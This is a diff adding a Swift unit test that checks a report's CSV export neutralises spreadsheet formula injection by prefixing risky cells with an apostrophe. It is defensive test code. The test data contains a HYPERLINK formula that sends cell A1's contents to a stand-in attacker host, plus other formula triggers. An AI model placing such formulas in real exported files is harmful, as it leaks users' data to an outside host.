@@ -119,6 +119,20 @@ struct ReportFormattingTests {
         #expect(String(decoding: try sv.csv(), as: UTF8.self).hasPrefix("Kontrollmoment,Granskade,Andel avvikande,Enhet\n"))
     }
 
+    @Test func csvTextCellsThatASpreadsheetWouldRunAsFormulasAreMadeTextButNumbersStayNumbers() throws {
+        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"Klicka")"#
+        let table = Tabular(keys: ["deviation", "count", "unit", "description"], language: .sv, numeric: [1],
+                            rows: [["D-1", "-3", "+1+2", formula], ["@SUM(1)", "−2,5", "-2", "\tx"], ["D-3", "=1+1", "\rx", "ok"]])
+        let plain = String(decoding: try table.csv(), as: UTF8.self).split(separator: "\n").map(String.init)
+        #expect(plain[1] == #"D-1,-3,'+1+2,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")""#)
+        #expect(plain[2] == "'@SUM(1),−2,5,'-2,'\tx".replacingOccurrences(of: "−2,5", with: "\"−2,5\""))
+        #expect(plain[3].hasPrefix("D-3,'=1+1,"), "a numeric column's cell that is no number is text")
+        let excel = String(decoding: try table.csv(excel: true).dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
+        #expect(excel[1] == #"D-1;-3;'+1+2;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")""#)
+        #expect(excel[2] == "'@SUM(1);-2,5;'-2;'\tx", "a negative figure stays a number for Excel")
+        #expect(Tabular.isNumber("1\u{00A0}234") && Tabular.isNumber("58,9\u{00A0}%") && !Tabular.isNumber("-") && !Tabular.isNumber("-1+2"))
+    }
+
     @Test func everyLabelHasBothLanguagesAndEnglishHasNoSwedishLetters() {
         for (key, words) in Labels.table {
             #expect(!words.sv.isEmpty && !words.en.isEmpty, "\(key)")
